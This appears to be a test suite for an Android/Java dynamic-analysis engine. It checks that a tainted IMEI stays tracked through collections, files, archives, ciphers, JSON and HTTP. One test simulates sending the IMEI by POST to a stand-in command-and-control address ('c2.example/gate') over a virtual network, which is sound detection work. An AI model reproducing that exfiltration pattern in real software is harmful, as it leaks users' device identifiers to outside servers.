// Taint travels through the core library's models as values do: element by element, through files, threads and ciphers.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { type CryptoUse, setJavaHooks } from '../../../../../server/engine/dynamic/java/hooks.ts';
import { javaModels } from '../../../../../server/engine/dynamic/java/models.ts';
import { type HttpRequest, setVirtualNetwork } from '../../../../../server/engine/dynamic/java/virtual-network.ts';
import type { HeapObject, JavaArray, JavaString, Taint } from '../../../../../server/engine/dynamic/machine/heap.ts';
import { createMachine, type MachineHost } from '../../../../../server/engine/dynamic/machine/machine.ts';
import { virtualFiles } from '../../../../../server/engine/dynamic/machine/virtual-files.ts';

const O = 'Ljava/lang/Object;';
const S = 'Ljava/lang/String;';

/** Runs `body` on a new machine's main thread; an exception that nothing caught fails the test. */
function run(body: (machine: MachineHost) => void): MachineHost {
  const machine = createMachine({
    dexFiles: [],
    models: [javaModels],
    startDate: Date.UTC(2026, 10, 21),
    onFailure: (error) => {
      throw error;
    },
    onUncaught: (throwable) => {
      throw new Error(`uncaught ${throwable.cls.name}: ${machine.toText(throwable).text}`);
    },
  });
  assert.ok(machine.run(() => body(machine)));
  machine.runFor(60_000);
  return machine;
}

function imei(machine: MachineHost): { text: JavaString; taint: Taint } {
  const taint = machine.source('TAINT_IMEI', 'TelephonyManager.getDeviceId');
  return { text: machine.string('356938035643809', taint), taint };
}

const tags = (machine: MachineHost, object: HeapObject | null): string[] => machine.tagsOf(machine.deepTaint(object));

test('a list keeps the taint of the element that has it, and of no other', () => {
  run((machine) => {
    const list = machine.construct('Ljava/util/LinkedList;', '<init>()V');
    machine.call(list, `add(${O})Z`, machine.string('clean'));
    machine.call(list, `add(${O})Z`, imei(machine).text);
    assert.deepEqual(tags(machine, machine.call(list, `get(I)${O}`, 0) as HeapObject), []);
    assert.deepEqual(tags(machine, machine.call(list, `get(I)${O}`, 1) as HeapObject), ['TAINT_IMEI']);
    assert.deepEqual(tags(machine, list), ['TAINT_IMEI']);
  });
});

test('a builder that was emptied forgets what it held', () => {
  run((machine) => {
    const builder = machine.construct('Ljava/lang/StringBuilder;', '<init>()V');
    machine.call(builder, `append(${S})Ljava/lang/StringBuilder;`, imei(machine).text);
    assert.deepEqual(tags(machine, machine.toText(builder)), ['TAINT_IMEI']);
    machine.call(builder, 'setLength(I)V', 0);
    assert.deepEqual(tags(machine, machine.toText(builder)), []);
  });
});

test('characters of an array carry their own taint into new strings', () => {
  run((machine) => {
    const chars = machine.call(imei(machine).text, 'toCharArray()[C') as JavaArray;
    const target = machine.array('C', 20);
    machine.callStatic('Ljava/lang/System;', `arraycopy(${O}I${O}II)V`, chars, 0, target, 5, 5);
    const text = (from: number): HeapObject => machine.construct(S, '<init>([CII)V', target, from, 5);
    assert.deepEqual(tags(machine, text(0)), []);
    assert.deepEqual(tags(machine, text(5)), ['TAINT_IMEI']);
    assert.deepEqual(tags(machine, text(10)), []);
  });
});

test('what was written to a file comes back tainted, and the observer is told', () => {
  const written: string[] = [];
  run((machine) => {
    virtualFiles(machine).observer.written = (m, path, data, taint) => {
      written.push(`${path} ${Buffer.from(data).toString()} ${m.tagsOf(taint)}`);
    };
    const out = machine.construct('Ljava/io/FileOutputStream;', `<init>(${S})V`, machine.string('/a.txt'));
    const writer = machine.construct('Ljava/io/OutputStreamWriter;', '<init>(Ljava/io/OutputStream;)V', out);
    machine.call(writer, `write(${S})V`, imei(machine).text);
    machine.call(writer, 'close()V');
    const file = machine.construct('Ljava/io/FileReader;', `<init>(${S})V`, machine.string('/a.txt'));
    const reader = machine.construct('Ljava/io/BufferedReader;', '<init>(Ljava/io/Reader;)V', file);
    const line = machine.call(reader, `readLine()${S}`) as JavaString;
    assert.equal(line.text, '356938035643809');
    assert.deepEqual(tags(machine, line), ['TAINT_IMEI']);
  });
  assert.deepEqual(written, ['/a.txt 356938035643809 TAINT_IMEI']);
});

test('archives and compression keep the taint of what is in them', () => {
  run((machine) => {
    const bytes = machine.construct('Ljava/io/ByteArrayOutputStream;', '<init>()V');
    const zip = machine.construct('Ljava/util/zip/ZipOutputStream;', '<init>(Ljava/io/OutputStream;)V', bytes);
    const entry = machine.construct('Ljava/util/zip/ZipEntry;', `<init>(${S})V`, machine.string('a/b.txt'));
    machine.call(zip, 'putNextEntry(Ljava/util/zip/ZipEntry;)V', entry);
    machine.call(zip, 'write([B)V', machine.call(imei(machine).text, 'getBytes()[B'));
    machine.call(zip, 'close()V');
    const packed = machine.call(bytes, 'toByteArray()[B');
    const source = machine.construct('Ljava/io/ByteArrayInputStream;', '<init>([B)V', packed);
    const input = machine.construct('Ljava/util/zip/ZipInputStream;', '<init>(Ljava/io/InputStream;)V', source);
    const found = machine.call(input, 'getNextEntry()Ljava/util/zip/ZipEntry;') as HeapObject;
    assert.equal(machine.toText(found).text, 'a/b.txt');
    const content = machine.call(input, 'readAllBytes()[B') as JavaArray;
    const text = machine.construct(S, '<init>([B)V', content) as JavaString;
    assert.equal(text.text, '356938035643809');
    assert.deepEqual(tags(machine, text), ['TAINT_IMEI']);
  });
});

test('an inflater that is fed in pieces asks for more until it has everything', () => {
  run((machine) => {
    const packed = deflateSync(Buffer.from('packed text. '.repeat(20)));
    const inflater = machine.construct('Ljava/util/zip/Inflater;', '<init>()V');
    const buffer = machine.array('B', 100);
    let text = '';
    for (let at = 0, turn = 0; machine.call(inflater, 'finished()Z') === 0 && turn < 100; turn++) {
      if (machine.call(inflater, 'needsInput()Z') !== 0) {
        machine.call(inflater, 'setInput([B)V', machine.byteArray(packed.subarray(at, at + 7)));
        at += 7;
      }
      const count = machine.call(inflater, 'inflate([B)I', buffer) as number;
      text += Buffer.from(buffer.elements as Int8Array)
        .subarray(0, count)
        .toString();
    }
    assert.equal(text, 'packed text. '.repeat(20));
  });
});

test('a cipher tells key, data and result, and its result is tainted', () => {
  const uses: CryptoUse[] = [];
  run((machine) => {
    setJavaHooks(machine, { crypto: (_machine, use) => uses.push(use) });
    const key = machine.construct(
      'Ljavax/crypto/spec/SecretKeySpec;',
      `<init>([B${S})V`,
      machine.byteArray(Buffer.from('0123456789abcdef')),
      machine.string('AES'),
    );
    const name = machine.string('AES/ECB/PKCS5Padding');
    const cipher = machine.callStatic('Ljavax/crypto/Cipher;', `getInstance(${S})Ljavax/crypto/Cipher;`, name);
    machine.call(cipher as HeapObject, 'init(ILjava/security/Key;)V', 1, key);
    const data = machine.call(imei(machine).text, 'getBytes()[B');
    const result = machine.call(cipher as HeapObject, 'doFinal([B)[B', data) as JavaArray;
    assert.deepEqual(tags(machine, result), ['TAINT_IMEI']);
  });
  assert.equal(uses.length, 1);
  assert.equal(uses[0]!.algorithm, 'AES/ECB/PKCS5Padding');
  assert.equal(uses[0]!.operation, 'encryption');
  assert.equal(Buffer.from(uses[0]!.key!).toString(), '0123456789abcdef');
  assert.equal(Buffer.from(uses[0]!.data!).toString(), '356938035643809');
});

test('a request carries the taint of its body apart from that of its address', () => {
  const requests: HttpRequest[] = [];
  run((machine) => {
    setVirtualNetwork(machine, {
      resolve: () => ['192.0.2.1'],
      http: (_machine, request) => {
        requests.push(request);
        return { status: 200, reason: 'OK', headers: [['X-A', 'b']], body: Buffer.from('hello\n') };
      },
      connect: () => null,
      listens: () => undefined,
      accept: () => null,
      datagram: () => null,
      interfaces: [],
      hostName: 'phone',
    });
    const url = machine.construct('Ljava/net/URL;', `<init>(${S})V`, machine.string('http://c2.example/gate'));
    const connection = machine.call(url, 'openConnection()Ljava/net/URLConnection;') as HeapObject;
    machine.call(connection, 'setDoOutput(Z)V', 1);
    const out = machine.call(connection, 'getOutputStream()Ljava/io/OutputStream;') as HeapObject;
    machine.call(out, 'write([B)V', machine.call(imei(machine).text, 'getBytes()[B'));
    assert.equal(machine.call(connection, 'getResponseCode()I'), 200);
    const input = machine.call(connection, 'getInputStream()Ljava/io/InputStream;');
    const scanner = machine.construct('Ljava/util/Scanner;', '<init>(Ljava/io/InputStream;)V', input);
    assert.equal((machine.call(scanner, `nextLine()${S}`) as JavaString).text, 'hello');
    assert.deepEqual(machine.tagsOf(requests[0]!.bodyTaint), ['TAINT_IMEI']);
    assert.equal(requests[0]!.urlTaint, 0);
  });
  assert.equal(requests[0]!.method, 'POST');
  assert.equal(Buffer.from(requests[0]!.body).toString(), '356938035643809');
});

test('JSON keeps the taint of a value through text and back', () => {
  run((machine) => {
    const object = machine.construct('Lorg/json/JSONObject;', '<init>()V');
    machine.call(object, `put(${S}${O})Lorg/json/JSONObject;`, machine.string('id'), imei(machine).text);
    machine.call(object, `put(${S}I)Lorg/json/JSONObject;`, machine.string('n'), 7);
    const text = machine.toText(object);
    assert.equal(text.text, '{"id":"356938035643809","n":7}');
    const again = machine.construct('Lorg/json/JSONObject;', `<init>(${S})V`, text);
    const id = machine.call(again, `getString(${S})${S}`, machine.string('id')) as JavaString;
    assert.deepEqual(tags(machine, id), ['TAINT_IMEI']);
  });
});

test('a pull parser gives elements, attributes and text in their order', () => {
  const events: string[] = [];
  run((machine) => {
    const parser = machine.construct('Lorg/kxml2/io/KXmlParser;', '<init>()V');
    const xml = machine.string('<?xml version="1.0"?><a x="1 &amp; 2"><!-- c --><b/>t<![CDATA[<x>]]></a>');
    const reader = machine.construct('Ljava/io/StringReader;', `<init>(${S})V`, xml);
    machine.call(parser, 'setInput(Ljava/io/Reader;)V', reader);
    for (let event = 0; event !== 1; ) {
      event = machine.call(parser, 'next()I') as number;
      const name = machine.call(parser, `getName()${S}`) as JavaString | null;
      const text = machine.call(parser, `getText()${S}`) as JavaString | null;
      events.push(`${event} ${name?.text ?? text?.text ?? ''}`);
      if (events.length === 1) {
        const value = machine.call(parser, `getAttributeValue(${S}${S})${S}`, null, machine.string('x')) as JavaString;
        events.push(value.text);
      }
    }
  });
  assert.deepEqual(events, ['2 a', '1 & 2', '2 b', '3 b', '4 t<x>', '3 a', '1 ']);
});

test('a future gives the result of a task that ran on a pool thread', () => {
  const names: string[] = [];
  run((machine) => {
    const C = 'Ljava/util/concurrent/';
    const supplier = machine.allocate('Ljava/util/function/ModelSupplier;');
    supplier.native = (m: MachineHost) => {
      const name = m.call(m.currentThread(), `getName()${S}`) as JavaString;
      names.push(name.text);
      return m.string('done');
    };
    const pool = machine.callStatic(`${C}Executors;`, `newSingleThreadExecutor()${C}ExecutorService;`);
    const future = machine.callStatic(
      `${C}CompletableFuture;`,
      `supplyAsync(Ljava/util/function/Supplier;${C}Executor;)${C}CompletableFuture;`,
      supplier,
      pool,
    ) as HeapObject;
    const result = machine.call(future, `join()${O}`) as JavaString;
    assert.equal(result.text, 'done');
  });
  assert.deepEqual(names, ['pool-1-thread-1']);
});

test('a pattern that explodes ends in an error, not in a hang', () => {
  run((machine) => {
    const text = machine.string(`${'a'.repeat(40)}!`);
    assert.throws(() => machine.call(text, `matches(${S})Z`, machine.string('(a|a)+b')));
    const nested = machine.string('(a*)*b');
    const started = process.cpuUsage();
    assert.throws(() => machine.call(text, `matches(${S})Z`, nested));
    assert.ok(process.cpuUsage(started).user < 20_000_000);
  });
});

test('modelled classes name superclasses and interfaces that are modelled too, or the machine has', () => {
  const machine = createMachine({ dexFiles: [], models: [javaModels] });
  const missing = new Set<string>();
  for (const model of Object.values(javaModels)) {
    for (const parent of [model.extends, ...(model.implements ?? [])]) {
      if (parent !== undefined && machine.findClass(parent) === null) missing.add(parent);
    }
  }
  assert.deepEqual([...missing], []);
});
